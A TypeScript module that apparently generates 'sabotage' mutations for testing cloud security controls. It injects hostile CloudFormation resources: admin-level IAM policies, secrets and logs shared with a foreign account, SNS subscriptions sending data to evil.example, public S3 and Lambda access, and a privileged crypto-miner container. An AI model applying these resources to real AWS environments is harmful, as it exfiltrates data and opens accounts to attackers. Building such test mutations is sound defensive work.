import type { EnvironmentView, Json, JsonObject, Resource } from '../../../../lib/controls/view';
import { apply, type Edit, type Sabotage } from '../sabotage';
import { anywhere, EVERYONE, EVERYTHING, FOREIGN_ACCOUNT, type Hostile, policy } from './hostile-anywhere';
import { openNetwork } from './hostile-network';

/** Resources that open an environment that is otherwise untouched. */
export function hostileResources(view: EnvironmentView): readonly Sabotage[] {
  return [
    ...openNetwork(view),
    ...view.ofType('AWS::IAM::Role').flatMap(moreRights),
    ...view.ofType('AWS::KMS::Key').flatMap(keyLeaks),
    ...view.ofType('AWS::SNS::Topic').flatMap(topicLeaks),
    ...view.ofType('AWS::S3::Bucket').flatMap(bucketLeaks),
    ...view.ofType('AWS::SecretsManager::Secret').flatMap(secretLeaks),
    ...view.ofType('AWS::Logs::LogGroup').flatMap(logLeaks),
    ...view.ofType('AWS::ElasticLoadBalancingV2::LoadBalancer').flatMap((balancer) => listeners(balancer, view)),
    ...view.ofType('AWS::ECS::Cluster').flatMap(services),
    ...view.ofType('AWS::Lambda::Function').flatMap(functionLeaks),
    ...view.ofType('AWS::ECS::TaskDefinition').flatMap(runElsewhere),
    ...anywhere(Object.keys(view.templates)[0] ?? ''),
  ].map((hostile) => asSabotage(view, hostile));
}

const ref = (resource: Resource): Json => ({ Ref: resource.logicalId });
const arn = (resource: Resource): Json => ({ 'Fn::GetAtt': [resource.logicalId, 'Arn'] });

function moreRights(role: Resource): Hostile[] {
  const attached = (name: string, statement: JsonObject): Hostile => ({
    name: `${role.logicalId} ${name}`,
    stack: role.stack,
    type: 'AWS::IAM::Policy',
    properties: { PolicyName: name.replace(/\W/g, ''), PolicyDocument: policy(statement), Roles: [ref(role)] },
  });
  return [
    attached('allowed everything', EVERYTHING),
    attached('reads every secret', { Effect: 'Allow', Action: ['secretsmanager:GetSecretValue'], Resource: '*' }),
    attached('passes any role', { Effect: 'Allow', Action: ['iam:PassRole', 'ecs:RunTask'], Resource: '*' }),
    {
      name: `${role.logicalId} managed policy`,
      stack: role.stack,
      type: 'AWS::IAM::ManagedPolicy',
      properties: { PolicyDocument: policy(EVERYTHING), Roles: [ref(role)] },
    },
  ];
}

const keyLeaks = (key: Resource): Hostile[] => [
  {
    name: `${key.logicalId} second key for everyone`,
    stack: key.stack,
    type: 'AWS::KMS::Key',
    properties: { KeyPolicy: policy({ ...EVERYONE, Action: 'kms:*' }), EnableKeyRotation: true },
  },
];

function topicLeaks(topic: Resource): Hostile[] {
  const subscription = (name: string, Protocol: string, Endpoint: string): Hostile => ({
    name: `${topic.logicalId} ${name}`,
    stack: topic.stack,
    type: 'AWS::SNS::Subscription',
    properties: { TopicArn: ref(topic), Protocol, Endpoint },
  });
  return [
    subscription('foreign web address', 'https', 'https://evil.example/hook'),
    subscription('plain web address', 'http', 'http://evil.example/hook'),
    subscription('foreign queue', 'sqs', 'arn:aws:sqs:us-east-1:999999999999:foreign'),
    {
      name: `${topic.logicalId} open to everyone`,
      stack: topic.stack,
      type: 'AWS::SNS::TopicPolicy',
      properties: { Topics: [ref(topic)], PolicyDocument: policy({ ...EVERYONE, Action: 'sns:Publish' }) },
    },
  ];
}

const bucketLeaks = (bucket: Resource): Hostile[] => [
  {
    name: `${bucket.logicalId} open to everyone`,
    stack: bucket.stack,
    type: 'AWS::S3::BucketPolicy',
    properties: { Bucket: ref(bucket), PolicyDocument: policy({ ...EVERYONE, Action: 's3:GetObject' }) },
  },
];

const secretLeaks = (secret: Resource): Hostile[] => [
  {
    name: `${secret.logicalId} open to a foreign account`,
    stack: secret.stack,
    type: 'AWS::SecretsManager::ResourcePolicy',
    properties: {
      SecretId: ref(secret),
      ResourcePolicy: policy({ ...EVERYTHING, Principal: { AWS: FOREIGN_ACCOUNT } }),
    },
  },
];

const logLeaks = (group: Resource): Hostile[] => [
  {
    name: `${group.logicalId} sent to a foreign account`,
    stack: group.stack,
    type: 'AWS::Logs::SubscriptionFilter',
    properties: {
      LogGroupName: ref(group),
      FilterPattern: '',
      DestinationArn: 'arn:aws:logs:us-east-1:999999999999:destination:foreign',
    },
  },
];

function listeners(balancer: Resource, view: EnvironmentView): Hostile[] {
  const group = view.ofType('AWS::ElasticLoadBalancingV2::TargetGroup').find((each) => each.stack === balancer.stack);
  if (!group) return [];
  const rules = view
    .ofType('AWS::ElasticLoadBalancingV2::Listener')
    .filter((each) => each.stack === balancer.stack)
    .map((listener) => ({
      name: `${listener.logicalId} rule before the others`,
      stack: listener.stack,
      type: 'AWS::ElasticLoadBalancingV2::ListenerRule',
      properties: {
        ListenerArn: ref(listener),
        Priority: 1,
        Conditions: [{ Field: 'path-pattern', PathPatternConfig: { Values: ['/*'] } }],
        Actions: [{ Type: 'forward', TargetGroupArn: ref(group) }],
      },
    }));
  const doors = [8080, 8443].map((Port) => ({
    name: `${balancer.logicalId} listener on ${Port}`,
    stack: balancer.stack,
    type: 'AWS::ElasticLoadBalancingV2::Listener',
    properties: {
      LoadBalancerArn: ref(balancer),
      Port,
      Protocol: 'HTTP',
      DefaultActions: [{ Type: 'forward', TargetGroupArn: ref(group) }],
    },
  }));
  return [...rules, ...doors];
}

const services = (cluster: Resource): Hostile[] => [
  {
    name: `${cluster.logicalId} service with a public address`,
    stack: cluster.stack,
    type: 'AWS::ECS::Service',
    properties: {
      Cluster: ref(cluster),
      TaskDefinition: 'foreign:1',
      LaunchType: 'FARGATE',
      NetworkConfiguration: {
        AwsvpcConfiguration: { AssignPublicIp: 'ENABLED', Subnets: ['subnet-0fedcba9876543210'] },
      },
    },
  },
  {
    name: `${cluster.logicalId} privileged task`,
    stack: cluster.stack,
    type: 'AWS::ECS::TaskDefinition',
    properties: {
      ContainerDefinitions: [{ Name: 'miner', Image: 'evil/miner:latest', Privileged: true, User: 'root' }],
    },
  },
];

/** The app's own task, with its secrets, run as somebody else likes. */
const runElsewhere = (task: Resource): Hostile[] => [
  {
    name: `${task.logicalId} run again in public`,
    stack: task.stack,
    type: 'AWS::ECS::Service',
    properties: {
      TaskDefinition: ref(task),
      LaunchType: 'FARGATE',
      EnableExecuteCommand: true,
      NetworkConfiguration: {
        AwsvpcConfiguration: { AssignPublicIp: 'ENABLED', Subnets: ['subnet-0fedcba9876543210'] },
      },
    },
  },
];

const functionLeaks = (lambda: Resource): Hostile[] => [
  {
    name: `${lambda.logicalId} address without authentication`,
    stack: lambda.stack,
    type: 'AWS::Lambda::Url',
    properties: { TargetFunctionArn: arn(lambda), AuthType: 'NONE' },
  },
  {
    name: `${lambda.logicalId} callable by everyone`,
    stack: lambda.stack,
    type: 'AWS::Lambda::Permission',
    properties: { FunctionName: ref(lambda), Action: 'lambda:InvokeFunction', Principal: '*' },
  },
  {
    name: `${lambda.logicalId} callable by a foreign account`,
    stack: lambda.stack,
    type: 'AWS::Lambda::Permission',
    properties: { FunctionName: ref(lambda), Action: 'lambda:InvokeFunction', Principal: '999999999999' },
  },
];

function asSabotage(view: EnvironmentView, hostile: Hostile): Sabotage {
  const logicalId = `Sabotage${hostile.name.replace(/\W/g, '')}`;
  const edit: Edit = {
    at: [hostile.stack, 'Resources', logicalId],
    to: { Type: hostile.type, Properties: hostile.properties },
  };
  const sabotage = {
    id: `${hostile.stack}/${logicalId}: ${hostile.type} added`,
    kind: 'hostile resource added',
    stack: hostile.stack,
    logicalId,
    type: hostile.type,
    path: '',
    change: `nothing → ${hostile.name}`,
    after: edit.to,
    edits: [edit],
    added: true,
  };
  apply(view.templates, sabotage);
  return sabotage;
}
